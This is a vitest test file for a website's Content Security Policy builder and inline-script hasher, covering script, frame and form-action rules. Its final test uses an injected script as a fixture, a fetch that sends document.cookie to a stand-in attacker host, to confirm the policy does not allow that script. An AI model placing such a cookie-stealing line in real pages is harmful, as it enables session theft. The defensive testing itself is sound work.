import { createHash } from "node:crypto";
import { expect, test } from "vitest";
import { contentSecurityPolicy, inlineScriptHashes, scriptHash } from "./security-headers.server";

const sha256 = (text: string) => `'sha256-${createHash("sha256").update(text).digest("base64")}'`;

test("the policy allows scripts only from the site and the document's own inline scripts", () => {
  const policy = contentSecurityPolicy(["'sha256-abc'", "'sha256-def'"], {
    https: false,
    frameSources: ["https://player.vimeo.com"],
  });
  expect(policy).toContain("script-src 'self' 'sha256-abc' 'sha256-def';");
  expect(policy).not.toMatch(/script-src[^;]*(unsafe-inline|nonce-)/);
  expect(policy).toContain("frame-ancestors 'none'");
  expect(policy).toContain("object-src 'none'");
  expect(policy).toContain("frame-src https://player.vimeo.com;");
  expect(policy).not.toContain("upgrade-insecure-requests");
});

test("frames only from the origins given: none given, no frame at all", () => {
  expect(
    contentSecurityPolicy([], { https: false, frameSources: ["https://www.youtube.com", "https://a.example"] }),
  ).toContain("frame-src https://www.youtube.com https://a.example;");
  expect(contentSecurityPolicy([], { https: false })).toContain("frame-src 'none';");
});

test("forms lead only to the site and the origins given (Stripe's Checkout for the giving form)", () => {
  expect(contentSecurityPolicy([], { https: false, formTargets: ["https://checkout.stripe.com"] })).toContain(
    "form-action 'self' https://checkout.stripe.com;",
  );
  expect(contentSecurityPolicy([], { https: false })).toContain("form-action 'self';");
});

test("behind HTTPS, insecure requests are upgraded", () => {
  expect(contentSecurityPolicy([], { https: true })).toContain("upgrade-insecure-requests");
});

test("hashes the declared inline scripts, the speculation rules too, and no JSON data block or external script", () => {
  const declared = new Set(
    [
      "console.log(1)",
      'import("/assets/entry.js");',
      '{"prefetch":[{"where":{"href_matches":"/*"}}]}',
      'window.__x = "</p>";',
    ].map(scriptHash),
  );
  const html = [
    "<html><head><script>console.log(1)</script>",
    '<script type="module">import("/assets/entry.js");</script>',
    '<script type="application/ld+json">{"@type":"Church"}</script>',
    '<script type="speculationrules">{"prefetch":[{"where":{"href_matches":"/*"}}]}</script>',
    '<script type="module" src="/assets/app.js"></script>',
    '</head><body><script nonce="">window.__x = "</p>";</script></body></html>',
  ].join("");
  expect(inlineScriptHashes(html, declared)).toEqual({
    hashes: [
      sha256("console.log(1)"),
      sha256('import("/assets/entry.js");'),
      sha256('{"prefetch":[{"where":{"href_matches":"/*"}}]}'),
      sha256('window.__x = "</p>";'),
    ],
    undeclared: 0,
  });
});

test("a script injected into the page is not among the hashes the policy allows", () => {
  const declared = new Set([scriptHash("console.log(1)")]);
  const html =
    "<html><head><script>console.log(1)</script></head><body><p>Hello</p>" +
    '<script>fetch("https://evil.example/?c="+document.cookie)</script></body></html>';
  expect(inlineScriptHashes(html, declared)).toEqual({ hashes: [sha256("console.log(1)")], undeclared: 1 });
});
